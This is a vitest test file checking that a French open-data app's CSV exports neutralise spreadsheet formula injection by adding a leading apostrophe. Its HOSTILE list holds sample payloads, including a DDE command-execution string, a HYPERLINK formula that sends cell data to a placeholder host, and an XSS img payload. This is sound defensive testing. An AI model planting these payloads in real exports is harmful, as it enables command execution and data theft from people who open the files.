/*
 * CSV exports against formula injection (OWASP « CSV Injection »): every cell a spreadsheet could
 * read as a formula starts with an apostrophe, in data cells, headers and `#` comment lines, with
 * either separator, and every CSV the app writes goes through `toCsv` (checked on the sources).
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, toCsv } from '../../../src/domain/csv-export/to-csv.ts';
import { neutraliseCell, neutraliseUnquotedPiece } from '../../../src/domain/csv-export/neutralise-cell.ts';
import { tableToCsv, type ExportTable } from '../../../src/domain/export/export-table.ts';

const ROOT = join(import.meta.dirname, '../../..');

/** A minimal RFC 4180 reader (quotes, doubled quotes, CRLF) with a given separator, as a spreadsheet would read. */
function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet would run: a cell starting (after spaces) with = + - @ or their full-width forms, or tab/CR/LF, that is not a plain number. */
function runsAsFormula(cell: string): boolean {
  if (/^-?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$/.test(cell)) return false;
  return /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell);
}

const HOSTILE = [
  '=HYPERLINK("http://example.invalid?d="&A1;"clic")',
  '=1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3',
  '-HYPERLINK("x")',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '  @SUM(A1)',
  '＝1+1', // full-width equals
  '＋1',
  '－1',
  '＠SUM(A1)',
  'a;=1+1', // a formula after the French separator
  'a,=1+1', // … after the English one (a spreadsheet set to the other separator)
  'a\t=1+1',
  'a, "=1+1',
  '"=1+1"',
  '<img src=x onerror=alert(1)>',
];

describe('neutraliseCell', () => {
  it.each(HOSTILE)('%j is never a formula once written', (text) => {
    const out = neutraliseCell(text);
    expect(runsAsFormula(out)).toBe(false);
    // the text itself is kept (after the apostrophe)
    expect(out === text || out === `'${text}`).toBe(true);
  });

  it.each(['-12', '-12,5', '-3.25', 'Blois', 'a=b', '', '12 %', "l'Étang"])('%j is left as is', (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });

  it('a comment piece: quotes are looked through, a plain negative number is not touched', () => {
    expect(neutraliseUnquotedPiece(' "=1+1"')).toBe(`' "=1+1"`);
    expect(neutraliseUnquotedPiece('"-HYPERLINK(1)"')).toBe(`'"-HYPERLINK(1)"`);
    expect(neutraliseUnquotedPiece(' -5')).toBe(' -5');
    expect(neutraliseUnquotedPiece(' INSEE')).toBe(' INSEE');
  });
});

describe('toCsv with hostile cells, headers, sources and notes', () => {
  const rows = HOSTILE.map((text, i) => ({ code: `4100${i}`, texte: text, valeur: -i, nan: Number.NaN, inf: -Infinity }));
  const columns = [
    { key: 'code', label: '=code' },
    { key: 'texte', label: '@texte' },
    { key: 'valeur', label: '-valeur' },
    { key: 'nan', label: 'nan' },
    { key: 'inf', label: 'inf' },
  ];
  const notes = ['Requête : SELECT 1 AS ";=HYPERLINK(""x"")", "=2" FROM t', 'a,=1+1\r\n=2;@3', ' \t-cmd'];
  const sources = ['=INSEE', 'INSEE;+1', 'INSEE, "@SUM(A1)"'];

  for (const lang of ['fr', 'en'] as const) {
    const csv = toCsv(columns, rows, { lang, sources, notes });
    const body = csv.slice(CSV_BOM.length);

    // read with both separators: the file's own, and the other one (a spreadsheet set otherwise)
    for (const separator of [';', ',', '\t']) {
      it(`${lang}: no cell runs as a formula when read with ${JSON.stringify(separator)}`, () => {
        const cells = readCsv(body, separator).flat();
        const formulas = cells.filter(runsAsFormula);
        expect(formulas).toEqual([]);
      });
    }

    it(`${lang}: read with its own separator, every text comes back after one apostrophe`, () => {
      const sep = lang === 'fr' ? ';' : ',';
      const table = readCsv(body, sep).filter((r) => !(r[0] ?? '').startsWith('#'));
      expect(table[0]).toEqual(["'=code", "'@texte", "'-valeur", 'nan', 'inf']);
      const texts = table.slice(1).map((r) => r[1] ?? '');
      // the text is kept; only apostrophes are added, before formula starts
      expect(texts.map((t) => t.replace(/(^|[;,\t][ \u00a0"]*)'/g, '$1'))).toEqual(HOSTILE);
      // numbers: never neutralised; NaN and -Infinity are empty cells (missing), never « NaN »
      expect(table.slice(1).map((r) => r[2])).toEqual(HOSTILE.map((_, i) => (i === 0 ? '0' : `-${i}`)));
      expect(table.slice(1).every((r) => r[3] === '' && r[4] === '')).toBe(true);
      expect(body).not.toMatch(/NaN|Infinity/);
    });

    it(`${lang}: comment lines stay single lines starting with #`, () => {
      const lines = body.split('\r\n');
      expect(lines.slice(0, sources.length + notes.length).every((l) => l.startsWith('#'))).toBe(true);
    });
  }

  it('the exact French lines of the hostile notes and sources', () => {
    const csv = toCsv([{ key: 'a', label: 'a' }], [], { lang: 'fr', sources, notes });
    expect(csv.slice(1).split('\r\n').slice(0, 6)).toEqual([
      '# Source : =INSEE', // the line starts with #: a comment, not a formula
      "# Source : INSEE;'+1",
      `# Source : INSEE,' "@SUM(A1)"`,
      `# Requête : SELECT 1 AS ";'=HYPERLINK(""x"")",' "=2" FROM t`,
      "# a,'=1+1 =2;'@3",
      "#  \t'-cmd",
    ]);
  });
});

describe('every CSV export of the app', () => {
  it('tableToCsv (map table, comparison, ranking, access, mobility, index exports) neutralises names, headers and notes', () => {
    const table: ExportTable = {
      name: ['x'],
      title: '=titre',
      columns: [
        { key: 'nom', label: '<img src=x onerror=alert(1)>', type: 'string' },
        { key: 'v', label: '=HYPERLINK("x")', type: 'number' },
      ],
      rows: [{ nom: '=HYPERLINK("http://example.invalid")', v: 1e308 }, { nom: '@cmd', v: Number.NaN }],
      sources: ['+source'],
      year: '-2022',
      notes: ['@note'],
    };
    const csv = tableToCsv(table, 'fr', { year: 'Année : -2022', exported: 'Exporté le 2026-01-01' });
    const cells = readCsv(csv.slice(1), ';').flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(csv).toContain(`'=HYPERLINK(""http://example.invalid"")`);
    expect(csv).toContain('1e+308'); // every digit a double has, never « Infinity »
    expect(csv).not.toMatch(/NaN|Infinity/);
  });

  /** Source files (not the writers themselves) that save a CSV file. */
  function csvWriters(): string[] {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (/\.(ts|svelte)$/.test(name)) files.push(path);
      }
    };
    walk(join(ROOT, 'src'));
    return files.filter((f) => {
      const text = readFileSync(f, 'utf8');
      const savesCsv = /CSV_MIME|MIME\.csv|['"`]text\/csv/.test(text);
      const definesMime = /export const (CSV_MIME|MIME)\b/.test(text);
      return savesCsv && !definesMime;
    });
  }

  it('each module that saves a CSV builds it with toCsv or tableToCsv (formula neutralisation)', () => {
    const writers = csvWriters().map((f) => relative(ROOT, f));
    // the three places that save CSV files today: a new one must be added here knowingly
    expect(writers.sort()).toEqual(['src/ui/export/ExportButtons.svelte', 'src/ui/mobility/GapTable.svelte', 'src/ui/opendata/SqlConsole.svelte']);
    for (const file of writers) {
      expect(readFileSync(join(ROOT, file), 'utf8'), file).toMatch(/\b(toCsv|tableToCsv)\(/);
    }
  });

  it('no other module writes CSV lines by hand', () => {
    const handmade = csvWriters()
      .concat()
      .filter((f) => /\.join\(\s*['"][;,]['"]\s*\)[\s\S]{0,200}\\r\\n/.test(readFileSync(f, 'utf8')));
    expect(handmade).toEqual([]);
  });

  it('the coverage command line (npm run coverage -- --format csv) neutralises its text cells too', () => {
    const script = readFileSync(join(ROOT, 'scripts/coverage.ts'), 'utf8');
    expect(script).toMatch(/import \{ neutraliseCell \} from '..\/src\/domain\/csv-export\/neutralise-cell\.ts'/);
    expect(script).toMatch(/function csvCell\(s: string\): string \{\n\s+const text = neutraliseCell\(s\);/);
  });
});
